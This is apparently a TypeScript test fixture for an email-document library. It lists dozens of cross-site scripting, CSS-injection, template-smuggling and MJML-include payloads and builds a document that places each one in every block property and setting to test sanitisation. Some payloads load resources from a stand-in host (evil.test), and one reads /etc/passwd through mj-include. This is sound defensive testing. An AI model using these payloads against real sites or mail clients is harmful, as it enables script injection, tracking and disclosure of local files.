import {
  type Block,
  type BlockRegistry,
  documentVersion,
  type EmailDocument,
  extraParts,
  extraSpecs,
  type JsonValue,
  type PropSpecs,
} from "@mailwright/document";
import { counterIds } from "./ids.js";

/** What a payload says when it runs: `alert("mw-hostile")`. A test that hears it has failed. */
export const hostileSignal = "mw-hostile";

/** One attempt to run something, load something or break out of where it stands. */
export interface HostilePayload {
  readonly name: string;
  readonly text: string;
}

const call = `alert('${hostileSignal}')`;

/** Attempts of every kind that we know. Add to it whenever a new one is heard of; every border is tested with all of them. */
export const hostilePayloads: readonly HostilePayload[] = [
  { name: "script element", text: `<script>${call}</script>` },
  { name: "script element that ends an attribute", text: `"><script>${call}</script>` },
  { name: "script element that ends a single-quoted attribute", text: `'><script>${call}</script>` },
  { name: "unclosed script element", text: `<script src=//evil.test/x.js ` },
  { name: "script in upper case with a slash", text: `<SCRIPT/x>${call}</SCRIPT>` },
  { name: "script inside script", text: `<scr<script>ipt>${call}</scr</script>ipt>` },
  { name: "script behind a closed style", text: `</style><script>${call}</script>` },
  { name: "script behind a closed title", text: `</title><script>${call}</script>` },
  { name: "image with an error handler", text: `<img src=x onerror=${call}>` },
  { name: "handler that ends an attribute", text: `x" onerror="${call}" onload="${call}` },
  { name: "handler that ends a single-quoted attribute", text: `x' onmouseover='${call}' autofocus onfocus='${call}` },
  { name: "handler behind a slash", text: `<svg/onload=${call}>` },
  { name: "handler in svg animation", text: `<svg><animate onbegin=${call} attributeName=x dur=1s>` },
  { name: "details that opens itself", text: `<details open ontoggle=${call}>` },
  { name: "input that focuses itself", text: `<input autofocus onfocus=${call}>` },
  { name: "javascript address", text: `javascript:${call}` },
  { name: "javascript address in a link", text: `<a href="javascript:${call}">click</a>` },
  { name: "javascript address in mixed case with a tab", text: `JaVa\tScRiPt:${call}` },
  { name: "javascript address behind a control character", text: `\u0001javascript:${call}` },
  { name: "javascript address in entities", text: `&#106;&#97;vascript&colon;${call}` },
  { name: "javascript address in an entity without semicolon", text: `<a href="&#0000106avascript:${call}">click</a>` },
  { name: "javascript address behind a merge tag", text: `{{ x }}javascript:${call}` },
  { name: "vbscript address", text: `vbscript:msgbox("${hostileSignal}")` },
  { name: "data address with a page", text: `data:text/html,<script>${call}</script>` },
  {
    name: "data address with a picture that is a script",
    text: `data:image/svg+xml,<svg onload=${call} xmlns='http://www.w3.org/2000/svg'/>`,
  },
  { name: "style that ends its declaration", text: "red;position:fixed;inset:0;z-index:99999;background:red" },
  { name: "style that ends its attribute", text: `red" onmouseover="${call}` },
  { name: "style that ends its rule", text: "red}*{display:none}" },
  { name: "style that loads", text: "url(https://evil.test/track.gif)" },
  { name: "style that imports", text: "@import url(https://evil.test/x.css);" },
  { name: "style expression", text: `expression(${call})` },
  { name: "style with an escape", text: "\\75\\72\\6c(https://evil.test/x)" },
  { name: "style with a comment", text: "re/**/d;/*" },
  { name: "style element", text: "<style>*{display:none!important}</style>" },
  { name: "link element", text: "<link rel=stylesheet href=https://evil.test/x.css>" },
  { name: "frame", text: `<iframe srcdoc="<script>parent.${call}</script>"></iframe>` },
  { name: "object and embed", text: `<object data="javascript:${call}"></object><embed src="javascript:${call}">` },
  { name: "form that posts elsewhere", text: `<form action=https://evil.test><button formaction="javascript:${call}">go</button></form>` },
  { name: "meta refresh", text: `<meta http-equiv=refresh content="0;url=javascript:${call}">` },
  { name: "base address", text: "<base href=https://evil.test/>" },
  { name: "entities that decode to a tag", text: `&lt;script&gt;${call}&lt;/script&gt;` },
  { name: "twice encoded entities", text: `&amp;lt;script&amp;gt;${call}` },
  { name: "merge tag that smuggles a tag", text: `{{ "<img src=x onerror=${call}>" }}` },
  { name: "merge tag that smuggles a closing quote", text: `{{ x" onmouseover="${call} }}` },
  { name: "merge tag of Liquid that smuggles", text: `{% raw %}<script>${call}</script>{% endraw %}` },
  { name: "merge tag of ERB that smuggles", text: `<%= x %><script>${call}</script><% y %>` },
  { name: "merge tag of percent signs with a style", text: "%%;position:fixed;x:%%" },
  { name: "private-use characters of our own markers", text: "\uE000x\uE001\uE0020\uE003\uE002999\uE003" },
  { name: "comment that hides a script", text: `<!--><script>${call}</script>-->` },
  { name: "comment for Outlook", text: `<!--[if mso]><script>${call}</script><![endif]-->` },
  { name: "end of a comment for Outlook", text: `<![endif]--><script>${call}</script><!--[if mso]>` },
  { name: "CDATA", text: `<![CDATA[<script>${call}</script>]]>` },
  {
    name: "mutation through math and style",
    text: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${call}&gt;">`,
  },
  { name: "mutation through noscript", text: `<noscript><p title="</noscript><img src=x onerror=${call}>">` },
  { name: "mutation through template", text: `<template><script>${call}</script></template>` },
  { name: "MJML include", text: '<mj-include path="/etc/passwd" />' },
  { name: "MJML include of a style", text: '<mj-include path="./package.json" type="css" />' },
  { name: "MJML raw", text: `<mj-raw><script>${call}</script></mj-raw>` },
  { name: "MJML end of text", text: `</mj-text><mj-raw position="file-start"><script>${call}</script></mj-raw><mj-text>` },
  { name: "MJML head style", text: "</mj-text></mj-column></mj-section></mj-body><mj-head><mj-style>*{display:none}</mj-style></mj-head>" },
  { name: "null byte", text: `<scr\u0000ipt>${call}</scr\u0000ipt>` },
  { name: "right-to-left override", text: "\u202Egnp.exe" },
  { name: "prototype key", text: "__proto__" },
];

/** A document in which every prop of every block, and every setting, tries every payload. */
export function hostileDocument(registry: BlockRegistry): EmailDocument {
  const newId = counterIds("hostile-");
  const leaves = registry.definitions.filter(({ within }) => within.includes("cell"));
  const sections = hostilePayloads.map(({ text }) => ({
    id: newId(),
    type: "section",
    ...hostileValuesOf(registry, "section", text),
    children: [
      {
        id: newId(),
        type: "cell",
        ...hostileValuesOf(registry, "cell", text),
        children: [
          ...leaves.map(({ type }) => ({ id: newId(), type, ...hostileValuesOf(registry, type, text) })),
          { id: newId(), type: "mj-raw", props: { content: text, children: text }, extras: { mobile: text, [text]: text } },
          { id: newId(), type: text, props: { [text]: text } },
        ],
      },
    ],
  }));
  const every = hostilePayloads.map(({ text }) => text).join(" ");
  const settings = {
    bgColor: every,
    textColor: `{{ ${every} }}`,
    linkColor: every,
    headerFonts: every,
    paragraphFonts: every,
    lang: `en"><script>${call}</script>`,
    dark: { bgColor: every, textColor: `{{ ${every} }}` },
  };
  const wrapper = { id: newId(), type: "wrapper", ...hostileValuesOf(registry, "wrapper", every), children: sections };
  return { version: documentVersion, settings, root: { id: "root", type: "root", props: {}, children: [wrapper] } };
}

/** Every prop of a block, and everything beside them, with the payload in it: as it is, and in the shape that is expected. */
function hostileValuesOf(registry: BlockRegistry, type: string, text: string): Pick<Block, "props" | "extras"> {
  const definition = registry.get(type);
  if (!definition) return { props: {} };
  const extras = Object.fromEntries(extraParts.map((part) => [part, hostileValues(extraSpecs(definition, part), text)]));
  return { props: hostileValues(definition.props, text), extras };
}

function hostileValues(specs: PropSpecs, text: string): Record<string, JsonValue> {
  const props: Record<string, JsonValue> = {};
  for (const [name, spec] of Object.entries(specs)) {
    if (spec.kind === "link") props[name] = { kind: "web", value: text, title: text, subject: text, body: text };
    else if (spec.kind === "picture") props[name] = { url: text, key: text, title: text, choices: [text] };
    else if (spec.kind === "list") props[name] = Array(Math.max(spec.min, 1)).fill(hostileValues(spec.item, text));
    else if (spec.kind === "color") props[name] = `{{ ${text} }}`;
    else if (spec.kind === "edges") props[name] = { top: text, right: text, bottom: text, left: text };
    else props[name] = text;
  }
  return props;
}
